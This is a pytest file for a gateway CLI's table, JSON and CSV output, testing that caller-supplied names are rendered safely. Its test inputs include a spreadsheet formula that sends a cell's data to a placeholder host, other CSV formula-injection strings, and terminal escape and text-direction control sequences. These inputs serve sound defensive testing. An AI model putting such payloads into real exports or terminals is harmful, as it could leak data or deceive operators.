"""Rows as a table, JSON or CSV, on stdout only."""

from __future__ import annotations

import csv
import io
import json

import pytest

from llmgw.cli.output import Format, emit

ROWS = [
    {"tenant": "acme", "requests": 12345, "cost_usd": "0.5", "user": None, "models": ["a", "b"], "hidden": 1},
    {"tenant": 'a "b", c', "requests": 0, "cost_usd": None, "user": "[red]x", "models": [], "hidden": 2},
]
COLUMNS = ["tenant", "requests", "cost_usd", "user", "models"]


def test_json_is_a_list_of_rows(capsys: pytest.CaptureFixture[str]) -> None:
    """Every member, with its type: numbers are numbers and absent is null."""
    emit(ROWS, COLUMNS, Format.JSON)

    assert json.loads(capsys.readouterr().out) == ROWS


def test_no_rows_are_an_empty_list(capsys: pytest.CaptureFixture[str]) -> None:
    emit([], COLUMNS, Format.JSON)

    assert json.loads(capsys.readouterr().out) == []


def test_csv(capsys: pytest.CaptureFixture[str]) -> None:
    emit(ROWS, COLUMNS, Format.CSV)

    read = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert read == [
        COLUMNS,
        ["acme", "12345", "0.5", "", '["a", "b"]'],
        ['a "b", c', "0", "", "[red]x", "[]"],
    ]


def test_table(capsys: pytest.CaptureFixture[str]) -> None:
    """For people: thousands are marked, absent is a dash, and text is never taken for markup."""
    emit(ROWS, COLUMNS, Format.TABLE, title="usage")

    written = capsys.readouterr()
    assert written.err == ""
    lines = written.out.splitlines()
    assert lines[0].strip() == "usage"
    assert any("acme" in line and "12,345" in line and "a, b" in line for line in lines)
    assert any("[red]x" in line and " - " in line for line in lines)
    assert "hidden" not in written.out


@pytest.mark.parametrize("name", ["a\rb", "a\nb", 'a"b', "a,b", "é☃", "\u202eevil"])
def test_csv_of_an_odd_name_is_one_row(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    emit([{"model": name, "requests": 1}], ["model", "requests"], Format.CSV)

    out = capsys.readouterr().out
    assert list(csv.reader(io.StringIO(out, newline=""))) == [["model", "requests"], [name, "1"]]
    assert out.startswith("model,requests\n")


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_csv_of_a_callers_name_is_no_formula(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    emit([{"model": name, "cost": -1}], ["model", "cost"], Format.CSV)

    read = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert read[1] == [f"'{name}", "-1"]


def test_a_table_shows_what_would_move_the_cursor(capsys: pytest.CaptureFixture[str]) -> None:
    """A caller names its model; the operator's terminal is not the caller's."""
    emit([{"model": "a\x1b[2J\x9b1m\u202eb", "tags": ["c\x1b"]}], ["model", "tags"], Format.TABLE)

    written = capsys.readouterr().out
    assert not {"\x1b", "\x9b", "\u202e"} & set(written)
    assert r"a\x1b[2J\x9b1m\u202eb" in written
